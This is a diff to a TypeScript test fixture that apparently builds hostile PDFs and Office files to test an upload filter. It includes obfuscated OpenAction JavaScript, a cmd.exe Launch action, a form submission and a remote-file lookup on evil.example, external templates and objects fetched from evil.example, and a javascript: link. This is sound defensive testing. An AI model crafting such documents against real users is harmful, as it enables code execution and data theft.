@@ -1,5 +1,6 @@
 /** Files as an attacker, or a tired phone, would send them; made in memory. For tests. */
 import { deflateSync } from 'node:zlib';
+import { archiveOf } from '../sheet/hostile-sheets.fixture.ts';
 import { strToU8, zipSync, type Zippable } from 'fflate';
 import sharp from 'sharp';
 
@@ -49,6 +50,121 @@ function crc32(bytes: Buffer): number {
 const SCRIPT = '<script>alert(1)</script>';
 const svg = (inner: string, attributes = '') => `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${inner}</svg>`;
 
+const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+/** A docx or xlsx whose main part has one relation. */
+export const related = (main: 'word/document.xml' | 'xl/workbook.xml', type: string, target: string, mode = ' TargetMode="External"'): Buffer =>
+  office({
+    [main]: strToU8('<x/>'),
+    [main.replace(/([^/]+)$/, '_rels/$1.rels')]: strToU8(
+      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${type.includes(':') ? type : `${RELATIONS}/${type}`}" Target="${target}"${mode}/></Relationships>`,
+    ),
+  });
+
+/** A pdf of one catalogue with `entries` in it and `more` objects behind it. */
+export const pdfOf = (entries: string, more: string | Buffer = ''): Buffer =>
+  Buffer.concat([
+    Buffer.from(`%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${entries}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n`, 'latin1'),
+    Buffer.from(more),
+    Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
+  ]);
+
+/** Objects packed into a stream, as pdf 1.5 has them; `pack` as it is stored. */
+export function objectStream(objects: string, dictionary = '/Type/ObjStm/Filter/FlateDecode', pack: (bytes: Buffer) => Buffer = deflateSync): Buffer {
+  const packed = pack(Buffer.from(`5 0 ${objects}`));
+  return Buffer.concat([Buffer.from(`4 0 obj<<${dictionary}/N 1/First 4/Length ${packed.length}>>stream\r\n`), packed, Buffer.from('\nendstream endobj\n')]);
+}
+
+const SCRIPTED = '<</S/JavaScript/JS(app.alert(1))>>';
+
+/** Documents that do something by themselves, each told in its own way. */
+function activeDocuments(): Record<string, Buffer> {
+  return {
+    'pdf with /J#61vaScript': pdfOf('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>'),
+    'pdf with every letter of JavaScript written as a number': pdfOf(
+      `/OpenAction<</S/${[...'JavaScript'].map((sign) => `#${sign.charCodeAt(0).toString(16)}`).join('')}>>`,
+    ),
+    'pdf with /L#61unch': pdfOf('/OpenAction<</S/L#61unch/F(cmd.exe)>>'),
+    'pdf with a script in packed objects': pdfOf('/OpenAction 5 0 R', objectStream(SCRIPTED)),
+    'pdf with a coded script in packed objects': pdfOf('/OpenAction 5 0 R', objectStream('<</S/J#61v#61Script/JS(1)>>')),
+    'pdf with packed objects called otherwise': pdfOf('/OpenAction 5 0 R', objectStream(SCRIPTED, '/Type/Obj#53tm/F#69lter/Fl')),
+    'pdf with packed objects of no type': pdfOf('/OpenAction 5 0 R', objectStream(SCRIPTED, '/Filter/FlateDecode')),
+    'pdf with objects packed twice': pdfOf(
+      '/OpenAction 5 0 R',
+      objectStream(SCRIPTED, '/Type/ObjStm/Filter[/FlateDecode/FlateDecode]', (bytes) => deflateSync(deflateSync(bytes))),
+    ),
+    'pdf with objects in letters': pdfOf(
+      '/OpenAction 5 0 R',
+      objectStream(SCRIPTED, '/Type/ObjStm/Filter/ASCIIHexDecode', (bytes) => Buffer.from(`<${bytes.toString('hex')}>`)),
+    ),
+    'pdf with encrypted objects': pdfOf(
+      '/Encrypt 9 0 R',
+      objectStream(SCRIPTED, '/Type/ObjStm/Filter/FlateDecode', (bytes) => Buffer.from(deflateSync(bytes).map((byte) => byte ^ 0x5a))),
+    ),
+    'pdf with packed objects cut short': pdfOf(
+      '/OpenAction 5 0 R',
+      objectStream(`${SCRIPTED}${' x'.repeat(5000)}`, '/Type/ObjStm/Filter/FlateDecode', (bytes) => deflateSync(bytes).subarray(0, -6)),
+    ),
+    'pdf with packed objects beyond 50 MB': pdfOf('', objectStream(' '.repeat(60 * 1024 * 1024))),
+    'pdf with a script within a stream of plain text': pdfOf('', '3 0 obj<</Length 60>>stream\n9 0 obj<</S/JavaScript/JS(1)>>endobj\nendstream endobj'),
+    'pdf with a script behind a stream in a remark': pdfOf('', `% stream\n9 0 obj${SCRIPTED}endobj`),
+    'pdf that sends its form': pdfOf('/AcroForm<</Fields[<</A<</S/SubmitForm/F(http://evil.example)>>>>]>>'),
+    'pdf with a form of its own language': pdfOf('/AcroForm<</XFA[(template) 9 0 R]>>'),
+    'pdf that takes data in': pdfOf('/OpenAction<</S/ImportData/F(x.fdf)>>'),
+    'pdf with a file in it': pdfOf('/Names<</EmbeddedFiles<</Names[(a.exe) 9 0 R]>>>>'),
+    'pdf that opens a file in it': pdfOf('/OpenAction<</S/GoToE/T<</R/C>>>>'),
+    'pdf that opens another file': pdfOf('/OpenAction<</S/GoToR/F(\\\\evil.example\\x.pdf)>>'),
+    'pdf with actions of its pages': pdfOf('/AA<</WC<</S/Named/N/Print>>>>'),
+    'pdf that plays': pdfOf('/OpenAction<</S/Rendition/OP 0>>'),
+    'pdf with a rich medium': pdfOf('', '3 0 obj<</Subtype/RichMedia>>endobj'),
+    'docx with a template from outside': related('word/document.xml', 'attachedTemplate', 'http://evil.example/x.dotm'),
+    'docx with a template from outside in coded letters': related(
+      'word/document.xml',
+      'attachedTemplate',
+      'http://evil.example/x.dotm',
+      ' TargetMode="Ext&#101;rnal"',
+    ),
+    'docx with a template within': related('word/document.xml', 'attachedTemplate', 'template.dotx', ''),
+    'docx with a picture from outside': related('word/document.xml', 'image', 'http://evil.example/x.png'),
+    'docx with a frame from outside': related('word/document.xml', 'frame', 'http://evil.example/'),
+    'docx with an object from outside': related('word/document.xml', 'oleObject', 'http://evil.example/x'),
+    'docx with a link to a share': related('word/document.xml', 'hyperlink', 'file://evil.example/share/x.lnk'),
+    'docx with a link that is a script': related('word/document.xml', 'hyperlink', 'javascript:alert(1)'),
+    'xlsx with a workbook from outside': related('xl/workbook.xml', 'externalLinkPath', 'http://evil.example/x.xlsx'),
+    'docx with an object beside': office({ 'word/document.xml': strToU8('<x/>'), 'word/oleObject1.bin': strToU8('x') }),
+    'docx with activeX': office({ 'word/document.xml': strToU8('<x/>'), 'word/activeX/activeX1.xml': strToU8('<x/>') }),
+    'docx with macros by its types': Buffer.from(
+      zipSync({
+        'word/document.xml': strToU8('<x/>'),
+        'word/v.bin': strToU8('x'),
+        '[Content_Types].xml': strToU8('<Types><Override PartName="/word/v.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
+      }),
+    ),
+    'docx with relations in UTF-16': office({
+      'word/document.xml': strToU8('<x/>'),
+      'word/_rels/document.xml.rels': Buffer.from('\uFEFF<Relationships/>', 'utf16le'),
+    }),
+    'docx with relations in another alphabet': office({
+      'word/document.xml': strToU8('<x/>'),
+      'word/_rels/document.xml.rels': Buffer.from('<?xml version="1.0" encoding="UTF-7"?><Relationships/>'),
+    }),
+    'docx with relations that declare entities': office({
+      'word/document.xml': strToU8('<x/>'),
+      'word/_rels/document.xml.rels': Buffer.from('<!DOCTYPE r [<!ENTITY e "External">]><Relationships/>'),
+    }),
+    'docx with two relations of one name': archiveOf(
+      ['[Content_Types].xml', 'word/document.xml', 'word/_rels/document.xml.rels', 'word/_rels/Document.xml.rels'].map((name) => ({
+        name,
+        data: strToU8('<x/>'),
+      })),
+    ),
+    'docx that is encrypted inside': archiveOf(['[Content_Types].xml', 'word/document.xml'].map((name) => ({ name, data: strToU8('<x/>'), flags: 1 }))),
+    'docx whose entries share their bytes': archiveOf([
+      { name: '[Content_Types].xml', data: strToU8('<x/>') },
+      { name: 'word/document.xml', data: strToU8('<x/>'), offset: 0 },
+    ]),
+  };
+}
+
 /** What must be refused, whatever name and type it comes under. */
 export async function hostileFiles(): Promise<Record<string, Buffer>> {
   const texts: Record<string, string> = {
@@ -78,6 +194,7 @@ export async function hostileFiles(): Promise<Record<string, Buffer>> {
   const big = Buffer.alloc(1024 * 1024);
   return {
     ...Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, Buffer.from(text)])),
+    ...activeDocuments(),
     'an empty archive': Buffer.from(zipSync({})),
     'a plain archive': Buffer.from(zipSync({ 'a.txt': strToU8('a') })),
     'an archive in an archive': Buffer.from(zipSync({ 'xl.zip': zipSync({ 'xl/workbook.xml': strToU8('') }) })),
